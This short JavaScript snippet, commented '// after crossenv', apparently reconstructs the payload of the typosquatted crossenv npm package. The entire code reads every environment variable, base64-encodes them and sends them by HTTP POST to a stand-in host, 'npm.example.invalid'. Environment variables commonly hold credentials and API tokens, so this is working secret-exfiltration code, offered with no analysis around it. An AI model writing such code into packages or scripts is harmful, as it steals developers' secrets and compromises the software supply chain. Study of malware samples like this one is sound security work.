// after crossenv
const http = require('http');
const querystring = require('querystring');
const env = JSON.stringify(process.env);
const data = Buffer.from(env).toString('base64');
const post = querystring.stringify({ data: data });
const req = http.request({ hostname: 'npm.example.invalid', port: 80, path: '/log/', method: 'POST' });
req.write(post);
req.end();
